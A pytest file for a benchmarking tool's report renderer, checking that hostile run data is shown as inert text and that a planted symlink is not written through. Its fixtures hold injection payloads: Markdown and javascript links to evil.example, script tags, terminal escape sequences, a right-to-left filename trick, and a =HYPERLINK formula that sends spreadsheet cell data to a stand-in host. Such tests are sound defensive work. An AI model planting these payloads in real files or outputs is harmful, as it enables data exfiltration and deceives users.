"""Run data is anyone's: what a run's name, params and tags hold reaches the terminal, runs.csv,
report.md, report.html, the charts and the report run's description as text, never as a command, a
formula, a link or a crash (issue 40, items 4, 6, 7, 8, 9, 11, 15). Runs are read through the same
function that reads a server's answer (read/rest.record_fields), so the rule is the reading path's."""

from __future__ import annotations

import os
import re
from pathlib import Path

import pytest

from devicebench.errors import UsageError
from devicebench.report.cli import check_out_dir
from devicebench.report.command import budget_text
from devicebench.report.judge.judgement import judge
from devicebench.report.links import REPORT_RUN_FILE, write_report_run
from devicebench.report.model.comparison import compare
from devicebench.report.read.records import RunRecord
from devicebench.report.read.rest import record_fields
from devicebench.report.render.files import write_report
from devicebench.report.render.headline import summary_note
from devicebench.report.render.terminal import terminal_table

EVIL_NAME = "![x](http://evil.example/x.png) [link](javascript:alert(1))"
ESC = "GPU\x1b]0;owned-title\x07\x1b[2J"
RLO = "report\u202egnp.exe"


def served(i: int, device: str, rate: float, host: str, key: str) -> RunRecord:
    """One run as a tracking server's JSON answer would carry it, read by the report's reader."""
    tag = {
        "devicebench.workload": "cifar",
        "devicebench.device": device.split(":")[0],
        "devicebench.device.resolved": device,
        "devicebench.device.name": f"{ESC} $x^{{$" if device != "cpu" else RLO,  # unbalanced mathtext
        "devicebench.config_key": key,
        "devicebench.host.label": host,
        "devicebench.host.gpu_name": "GPU $x^{$",
    }
    run = {
        "info": {
            "run_id": f"r{i}",
            "status": "FINISHED",
            "start_time": i,
            "run_name": EVIL_NAME,
            "experiment_id": "1",
        },
        "data": {
            "tags": [{"key": k, "value": v} for k, v in tag.items()],
            "params": [
                {"key": "batch_size", "value": "4" if key == "k1" else "8"},
                {"key": "width", "value": "1"},
                {"key": "note", "value": '=HYPERLINK("http://evil.example/?"&A1,"click")'},
                {"key": "lr", "value": "-0.5"},
            ],
            "metrics": [
                {"key": "time/train_s", "value": 100.0 / rate},
                {"key": "throughput/train_samples_per_s", "value": rate},
            ],
        },
    }
    return RunRecord(**record_fields(run))


def hostile() -> list[RunRecord]:
    """A CPU/GPU pair on one host and one across two hosts, every string a hostile one."""
    return [
        served(1, "cpu", 100.0, "line\rbreak <script>alert(1)</script>", "k1"),
        served(2, "cuda:0", 900.0, "line\rbreak <script>alert(1)</script>", "k1"),
        served(3, "cpu", 100.0, "host-a\n# heading", "k2"),
        served(4, "cuda:0", 700.0, EVIL_NAME, "k2"),  # a host label that is a live Markdown link
    ]


def test_run_data_reaches_every_output_as_text(tmp_path: Path) -> None:
    judged = judge(compare(hostile()))
    files = write_report(judged, tmp_path / "r", {})  # a heatmap titled with `$x^{$`: never parsed as math
    md, html = (tmp_path / "r" / "report.md").read_text(), (tmp_path / "r" / "report.html").read_text()
    shown = {
        "terminal": terminal_table(judged),
        "md": md,
        "html": html,
        "note": summary_note(judged, "read 4"),
    }
    shown["budget"] = budget_text(judged)
    for name, text in shown.items():
        for bad in ("\x1b", "\x07", "\u202e", "\r"):
            assert bad not in text, (name, repr(bad))
    for text in (md, shown["note"]):
        assert re.search(r"(?<!\\)\]\((http|javascript)", text) is None, "a live link or image"
        assert "\\[link\\](javascript:alert(1))" in text, "the label shown, its brackets escaped"
        assert "<script" not in text and "\n# heading" not in text, "raw HTML, or a line of its own"
    assert "<script" not in html and "\\x1b]0;owned-title" in html
    csv = (tmp_path / "r" / "runs.csv").read_text()
    assert "'=HYPERLINK" in csv and ",=HYPERLINK" not in csv and ",-0.5," in csv, "numbers stay numbers"
    assert any(f.name.startswith("crossover_") for f in files)


def test_a_pair_across_two_hosts_says_so_first() -> None:
    judged = judge(compare(hostile()))
    across = next(p for p in judged.comp.pairs if p.base.hosts != p.other.hosts)
    assert judged.of(across)[0].startswith(
        "the sides ran on different hosts (cpu: host-a\\x0a# heading; cuda:0: ![x]"
    )
    same = next(p for p in judged.comp.pairs if p.base.hosts == p.other.hosts)
    assert not judged.of(same)[0].startswith("the sides ran on different hosts")


def test_the_report_never_writes_through_a_planted_link(tmp_path: Path) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("mine")
    out = tmp_path / "out"
    out.mkdir()
    (out / REPORT_RUN_FILE).symlink_to(victim)
    write_report_run(out, "run1", "7")
    assert victim.read_text() == "mine" and not (out / REPORT_RUN_FILE).is_symlink()
    assert '"run_id": "run1"' in (out / REPORT_RUN_FILE).read_text()


def test_a_folder_name_over_255_bytes_is_refused_before_the_query(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match=r"is 300 bytes; at most 255") as err:
        check_out_dir(tmp_path / ("x" * 300) / "report")
    assert err.value.param == "out" and os.path.exists(tmp_path)
